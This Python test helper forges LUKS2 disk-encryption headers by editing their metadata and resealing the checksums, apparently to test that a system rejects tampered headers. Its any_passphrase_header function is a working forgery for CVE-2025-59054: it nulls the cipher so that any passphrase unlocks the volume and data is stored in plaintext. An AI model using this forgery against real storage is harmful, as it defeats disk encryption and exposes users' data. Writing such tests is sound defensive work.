"""What a hostile storage provider does to a LUKS2 header: edit it, then fix the checksums.

Used by the header tests to turn a real header, written by the real cryptsetup, into forged
variants that cryptsetup itself would still load.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from initializer.header_image import copy_header_to_device, new_header_image
from initializer.luks import NO_INTEGRITY, IntegrityProfile, LuksLayout
from initializer.luks_header import BINARY_HEADER_BYTES, header_checksum


def format_volume(
    device: Path | str, key: bytes, integrity: IntegrityProfile = NO_INTEGRITY
) -> None:
    """Give ``device`` a genuine LUKS2 header, made the way the Initializer's first start
    makes one: the starting point of every forgery."""
    with new_header_image(str(device), key, integrity) as image:
        copy_header_to_device(image, str(device))


SIZE = LuksLayout.METADATA_BYTES
COPIES = {"primary": 0, "secondary": SIZE}


def _offset(copy: str) -> int:
    return COPIES[copy]


def json_of(raw: bytes, copy: str = "primary") -> dict[str, Any]:
    area = raw[_offset(copy) + BINARY_HEADER_BYTES : _offset(copy) + SIZE]
    loaded: dict[str, Any] = json.loads(area.split(b"\0", 1)[0])
    return loaded


def with_json_text(
    raw: bytes, text: bytes, copies: tuple[str, ...] = ("primary", "secondary")
) -> bytes:
    """Replace the JSON area of ``copies`` with ``text`` and re-seal their checksums."""
    data = bytearray(raw)
    area_bytes = SIZE - BINARY_HEADER_BYTES
    assert len(text) < area_bytes
    for copy in copies:
        start = _offset(copy) + BINARY_HEADER_BYTES
        data[start : start + area_bytes] = text + bytes(area_bytes - len(text))
        reseal(data, copy)
    return bytes(data)


def with_json(
    raw: bytes,
    mutate: Callable[[dict[str, Any]], None],
    copies: tuple[str, ...] = ("primary", "secondary"),
) -> bytes:
    metadata = json_of(raw)
    mutate(metadata)
    return with_json_text(raw, json.dumps(metadata).encode(), copies)


def reseal(data: bytearray, copy: str) -> None:
    start = _offset(copy)
    area = bytes(data[start : start + SIZE])
    data[start + 448 : start + 448 + 32] = header_checksum(area)


def with_binary_field(raw: bytes, copy: str, offset: int, value: bytes, seal: bool = True) -> bytes:
    data = bytearray(raw)
    start = _offset(copy) + offset
    data[start : start + len(value)] = value
    if seal:
        reseal(data, copy)
    return bytes(data)


def with_sequence_id(raw: bytes, copy: str, sequence_id: int) -> bytes:
    return with_binary_field(raw, copy, 16, struct.pack(">Q", sequence_id))


def _diffuse(block: bytes) -> bytes:
    """LUKS anti-forensic diffusion with SHA-256 (cryptsetup lib/luks1/af.c)."""
    size = hashlib.sha256().digest_size
    out = bytearray()
    for index in range(0, (len(block) + size - 1) // size):
        chunk = block[index * size : (index + 1) * size]
        out += hashlib.sha256(struct.pack(">I", index) + chunk).digest()[: len(chunk)]
    return bytes(out)


def af_split(key: bytes, stripes: int) -> bytes:
    stripes_out = []
    state = bytes(len(key))
    for _ in range(stripes - 1):
        stripe = os.urandom(len(key))
        stripes_out.append(stripe)
        state = _diffuse(bytes(a ^ b for a, b in zip(state, stripe, strict=True)))
    stripes_out.append(bytes(a ^ b for a, b in zip(state, key, strict=True)))
    return b"".join(stripes_out)


def any_passphrase_header(raw: bytes) -> bytes:
    """The attack of CVE-2025-59054: a header that "unlocks" with every passphrase.

    The keyslot area is "encrypted" with cipher_null, so it holds the AF-split volume key in
    the clear, and the digest is made to match that key; the data segment is cipher_null
    too, so the guest would write its data in plaintext. Returns metadata plus keyslots area
    (bytes [0, data offset)), ready to be written over a device's header.
    """
    volume_key = os.urandom(32)
    salt = os.urandom(32)
    metadata = json_of(raw)
    keyslot = metadata["keyslots"]["0"]
    keyslot["key_size"] = len(volume_key)
    keyslot["area"]["encryption"] = "cipher_null-ecb"
    keyslot["area"]["key_size"] = 32
    keyslot["area"]["size"] = str(-(-len(volume_key) * keyslot["af"]["stripes"] // 4096) * 4096)
    metadata["segments"]["0"]["encryption"] = "cipher_null-ecb"
    digest = metadata["digests"]["0"]
    digest["salt"] = base64.b64encode(salt).decode()
    digest["iterations"] = 1000
    digest["digest"] = base64.b64encode(
        hashlib.pbkdf2_hmac("sha256", volume_key, salt, 1000, 32)
    ).decode()
    forged = bytearray(with_json_text(raw, json.dumps(metadata).encode()))
    area_offset = int(keyslot["area"]["offset"])
    material = af_split(volume_key, keyslot["af"]["stripes"])
    forged[area_offset : area_offset + len(material)] = material
    return bytes(forged)
